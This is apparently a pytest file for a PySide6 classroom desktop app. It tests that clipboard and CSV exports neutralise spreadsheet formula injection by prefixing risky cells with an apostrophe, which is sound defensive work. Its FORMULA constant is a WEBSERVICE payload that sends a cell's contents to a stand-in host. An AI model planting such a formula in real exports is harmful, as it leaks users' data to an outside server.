"""What others wrote leaves the program by few ways, and on each of them no spreadsheet runs it."""

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication, QKeyEvent
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel, QTableView
from pytestqt.qtbot import QtBot

from desktop.clipboard import copy_lines, copy_table
from desktop.theme import Theme
from desktop.theme.widgets import Label, TableModel, TableView
from relay.shared.rosters import harmless_lines, table_csv, table_text

TREE = Path(__file__).parents[2]
FORMULA = '=WEBSERVICE("http://x/"&B2)&'
EXACTLY = {
    "desktop/features/admission/card.py": "the lesson's link, made by the program",
    "desktop/features/chat/view.py": "one message or one web address that was asked for",
    "desktop/features/questions/menu.py": "one question or one web address that was asked for",
    "desktop/features/questions/news.py": "one's own question that was not sent",
    "desktop/pages/details/unsent.py": "one's own message that was not sent",
    "desktop/pages/joining/how.py": "the lesson's link, made by the program",
    "desktop/pages/settings/page.py": "a folder of this computer",
}
"""Where a text goes onto the clipboard as it is, and why it may."""
OWN_COPYING = {
    "desktop/features/chat/kept_place.py: KeptPlace": "its rows are copied by ChatView",
    "desktop/features/chat/hints.py: EmojiHints": "emoji and their names, the program's own",
    "desktop/features/chat/picker.py: EmojiList": "emoji, the program's own",
    "desktop/features/slides/strip.py: PageStrip": "numbers of pages, the program's own",
}
"""Views whose rows may leave by Qt's own copying, or by none of it, and why."""
VIEWS = ("QTableView", "QListView", "QTreeView", "QTableWidget", "QListWidget", "QTreeWidget", "QColumnView")


WORDS = ("lipboard", "setMimeData", "copy_exactly", "csv", "\t", r"\t", "x09", *VIEWS)
"""What has none of these is no way out, and need not be parsed."""


def sources() -> Iterator[tuple[str, ast.Module]]:
    for part in ("relay", "desktop", "packaging"):
        for file in sorted((TREE / part).rglob("*.py")):
            text = file.read_text("utf-8")
            if any(word in text for word in WORDS):
                yield file.relative_to(TREE).as_posix(), ast.parse(text)


def uses(tree: ast.Module, *names: str) -> bool:
    """Whether one of these names or attributes occurs."""
    return any(
        (isinstance(node, ast.Attribute) and node.attr in names)
        or (isinstance(node, ast.Name) and node.id in names)
        or (isinstance(node, ast.ImportFrom) and any(a.name in names for a in node.names))
        for node in ast.walk(tree)
    )


def writes_tables(tree: ast.Module) -> bool:
    """Whether CSV is written, or cells are joined with tabs."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Attribute):
            continue
        of_csv = isinstance(node.value, ast.Name) and node.value.id == "csv"
        with_tabs = isinstance(node.value, ast.Constant) and node.value.value == "\t"
        if (of_csv and node.attr in ("writer", "DictWriter")) or (with_tabs and node.attr == "join"):
            return True
    return False


def test_every_way_out_goes_through_the_one_function() -> None:
    places: dict[str, set[str]] = {"clipboard": set(), "csv": set(), "exactly": set(), "views": set()}
    for name, tree in sources():
        if uses(tree, "clipboard", "QClipboard", "setMimeData"):
            places["clipboard"].add(name)
        if writes_tables(tree):
            places["csv"].add(name)
        if uses(tree, "copy_exactly"):
            places["exactly"].add(name)
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in VIEWS:
                places["views"].add(f"{name}: {node.func.id}")  # a class of its own guards its copying
            if not isinstance(node, ast.ClassDef):
                continue
            shows_items = any(isinstance(base, ast.Name) and base.id in VIEWS for base in node.bases)
            if shows_items and "Copy" not in ast.dump(node):
                places["views"].add(f"{name}: {node.name}")
    places["exactly"].discard("desktop/clipboard.py")
    assert places["clipboard"] == {"desktop/clipboard.py"}
    assert places["csv"] == {"relay/shared/cells.py"}
    assert places["exactly"] == set(EXACTLY)
    # Qt's own copying would put a cell there as it is
    assert places["views"] == set(OWN_COPYING)


@pytest.mark.parametrize(
    "begin", ["=", "+", "-", "@", "\t=", " =", "\u3000=", "\u200b=", "\u2003@", "'=", '"=']
)
def test_no_cell_begins_as_a_formula(begin: str) -> None:
    cell = f"{begin}1+1"
    assert harmless_lines(f"10:42, Ana: hi\n{cell}\t{cell}").count("'") >= 1
    for made in (
        table_text([["Ana", cell]]).split("\t")[1],
        table_csv([["Ana", cell]], "utf-8").decode().split(",")[1].strip('"'),
        harmless_lines(f"hi\n{cell}").split("\n")[1],
    ):
        assert made.lstrip('"')[:1] == "'" or made[:2] == "\t'", made


def test_a_cell_stays_one_cell() -> None:
    assert table_text([["a\tb", "c\n=1"], ["x", ""]]) == "a b\tc =1\nx\t"
    assert harmless_lines("a\n\n-b\r\n") == "a\n\n'-b\r\n"


def test_what_is_put_on_the_clipboard_is_harmless(qapp: QApplication, theme: Theme) -> None:
    clipboard = QGuiApplication.clipboard()
    copy_table([["Name"], [FORMULA]])
    assert clipboard.text() == f"Name\n'{FORMULA}"
    copy_lines(f"10:42, Ana: see\n{FORMULA}")
    assert clipboard.text().endswith(f"\n'{FORMULA}")

    class Names(TableModel[str]):
        def headings(self) -> list[str]:
            return ["Name", "Class"]

        def words(self, row: str) -> list[str]:
            return [row, "7b"]

    model = Names()
    model.show_rows([FORMULA, "Ana"])
    table = TableView(theme, model, "People")
    assert isinstance(table, QTableView)
    table.selectRow(0)
    copying = QKeyEvent(QKeyEvent.Type.KeyPress, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    table.keyPressEvent(copying)
    assert clipboard.text() == f"'{FORMULA}\t7b"
    table.deleteLater()


def test_text_selected_in_a_label_is_copied_as_it_was_set(theme: Theme, qtbot: QtBot) -> None:
    """Without the breaks that long words get to fit, and as no formula; by the keys and by the menu."""
    path = "/home/ana/.local/share/" + "schoolbell" * 8
    label = Label(f"={path}", wrap=True, selectable=True)
    qtbot.addWidget(label)
    label.resize(120, 400)
    label.show()
    label.setSelection(0, len(QLabel.text(label)))
    assert "\u200b" in label.selectedText()
    QTest.keyClick(label, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QGuiApplication.clipboard().text() == f"'={path}"
    copy_lines("")
    label.copy_menu().actions()[0].trigger()
    assert QGuiApplication.clipboard().text() == f"'={path}"
